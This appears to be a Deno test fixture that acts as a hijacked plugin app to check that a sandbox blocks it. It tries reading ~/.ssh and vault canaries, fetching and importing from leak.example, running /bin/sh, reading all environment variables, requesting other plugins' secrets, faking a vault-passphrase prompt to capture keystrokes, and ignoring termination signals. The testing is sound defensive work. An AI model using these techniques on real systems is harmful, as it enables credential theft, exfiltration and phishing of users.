/** A hijacked app: tries everything its row does not grant, in the app's own process.
 *
 * Each attack reports what the runtime, or the kernel, said; `got` means that it succeeded. */

import { call as callKernel, onMessage, report, send, show, started } from "./part_channel.ts";

/** Where the attacks aim; from `data.json`, in which `@HOME@` is the user's home. */
export interface Targets {
  /** It has a terminal, at which somebody types a line. @default false */
  typed?: string;
  /** Files that hold the canary: in the vault, in `~/.ssh`, elsewhere. */
  files: Record<string, string>;
  /** Files that must not be written. */
  writes: Record<string, string>;
  /** `host:port` of a server that no row names. */
  server: string;
  /** Every kernel method there is. */
  methods: string[];
  /** Calls of them that are to be made just so, by what they try. */
  calls?: Record<string, [method: string, ...params: unknown[]]>;
}

/** What came of one attack. */
export interface Attempt {
  attack: string;
  outcome: string;
}

const start = await started;
const text = await Deno.readTextFile(new URL("./data.json", import.meta.url));
const targets: Targets = JSON.parse(text.replaceAll("@HOME@", start.home.replace(/\/[^/]*$/, "")));
const keys = targets.typed === undefined ? "" : await listen(targets.typed);
const attempts: Attempt[] = [];
for (const [attack, run] of attacks(targets)) {
  attempts.push({ attack, outcome: await outcomeOf(run) });
}
if (targets.typed === undefined) {
  // Its stdout is no terminal here: what is shown goes out as it is.
  show(`${JSON.stringify(attempts)}\n`);
  send({ type: "exit", code: 0 });
} else {
  const settings = Object.keys(start.config.plugin_settings);
  report({ stage: "tried", command: start.line.path, attempts, keys, settings });
  await linger();
}

/** Takes every key, and draws what looks like a question, until the line was typed; the row of the
 * daemon has no keys. */
async function listen(line: string): Promise<string> {
  let keys = "";
  const typed = new Promise<void>((resolve) => {
    onMessage.current = ({ type }, bytes) => {
      if (type === "interrupt") send({ type: "interrupted" });
      if (type === "keys") keys += new TextDecoder().decode(bytes ?? new Uint8Array());
      if (keys.endsWith(line)) resolve();
    };
  });
  send({ type: "keyboard", mode: "keys" });
  show("\x1b[?1049h\x1b[H\x1b[7m▌ Passphrase of the vault:\x1b[0m\r\n▌ > \x1b]0;owned\x07");
  report({ stage: "ready" });
  await Promise.race([typed, new Promise((resolve) => setTimeout(resolve, 2500))]);
  return keys;
}

/** Says that it ends, and does not: it hears no SIGTERM, holds the channel, and never comes to rest. */
async function linger(): Promise<never> {
  for (const signal of ["SIGTERM", "SIGHUP", "SIGINT"] as const) {
    Deno.addSignalListener(signal, () => {});
  }
  send({ type: "exit", code: 0 });
  await new Promise((resolve) => setTimeout(resolve, 20));
  for (;;) Deno.stderr.writeSync(new TextEncoder().encode("after its end\n"));
}

async function outcomeOf(run: () => unknown): Promise<string> {
  try {
    const value = await run();
    return value === undefined ? "nothing" : typeof value === "string" ? value : "got";
  } catch (error) {
    return error instanceof Error ? error.name : String(error);
  }
}

async function call(method: string, ...params: unknown[]): Promise<string> {
  const reply = await callKernel(method, ...params);
  return reply.ok ? "got" : reply.error.code;
}

function* attacks(targets: Targets): Generator<[string, () => unknown]> {
  for (const [name, path] of Object.entries(targets.files)) {
    yield [`read ${name}`, () => Deno.readTextFile(path).then(() => true)];
    yield [`import ${name}`, () => import(path, { with: { type: "text" } }).then(() => true)];
    yield [`node:fs ${name}`, async () => {
      const { readFileSync } = await import("node:fs");
      return readFileSync(path).length > 0;
    }];
  }
  for (const [name, path] of Object.entries(targets.writes)) {
    yield [`write ${name}`, () => Deno.writeTextFile(path, "owned").then(() => true)];
  }
  yield ["link", () => Deno.symlink(Object.values(targets.files)[0]!, "link").then(() => true)];
  yield ["fetch", () => fetch(`http://${targets.server}/leak`).then(() => true)];
  yield ["connect", () => {
    const [hostname, port] = targets.server.split(":");
    return Deno.connect({ hostname: hostname!, port: Number(port) }).then(() => true);
  }];
  yield ["listen", () => Deno.listen({ port: 0 })];
  yield ["resolve a name", () => Deno.resolveDns("leak.example", "A").then(() => true)];
  yield ["import npm", () => import("npm:exfil-" + "canary").then(() => true)];
  yield ["import https", () => import("https://leak.example/" + "canary").then(() => true)];
  yield [
    "run",
    () => new Deno.Command("/bin/sh", { args: ["-c", "id"] }).output().then(() => true),
  ];
  yield ["child_process", async () => {
    const { execSync } = await import("node:child_process");
    return execSync("/usr/bin/id", { shell: "/bin/sh" }).length > 0;
  }];
  yield ["ffi", () => Deno.dlopen("libc.so.6", {})];
  yield ["env", () => Deno.env.get("HOME") === undefined ? undefined : true];
  yield ["all of env", () => Object.keys(Deno.env.toObject()).length === 0 ? undefined : true];
  yield ["a worker", () => ownWorker(Object.values(targets.files)[0]!)];
  for (const method of targets.methods) {
    yield [`call ${method}`, () => call(method, "x", "x", {})];
  }
  for (const [name, [method, ...params]] of Object.entries(targets.calls ?? {})) {
    yield [name, () => call(method, ...params)];
  }
  yield ["another's secret", () => call("secret", "provider:anthropic", "curious")];
  yield ["a plugin's secret", () => call("secret", "plugin:mail:password", "curious")];
  yield ["unnamed file", () => call("readUserFile", Object.values(targets.files)[0]!)];
  yield [
    "unnamed write",
    () => call("writeUserFile", Object.values(targets.writes)[0]!, new Uint8Array()),
  ];
  yield ["toString", () => call("constructor")];
}

/** A Worker of the attacker's own. */
function ownWorker(path: string): Promise<string | true> {
  const code = `try { Deno.readTextFileSync(${JSON.stringify(path)}); postMessage("got"); }
    catch (e) { postMessage(e.name); }`;
  const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  return new Promise((resolve, reject) => {
    const worker = new Worker(url, { type: "module" });
    worker.onmessage = ({ data }) => data === "got" ? resolve(true) : resolve(String(data));
    worker.onerror = (event) => {
      event.preventDefault();
      reject(new TypeError(event.message));
    };
  });
}
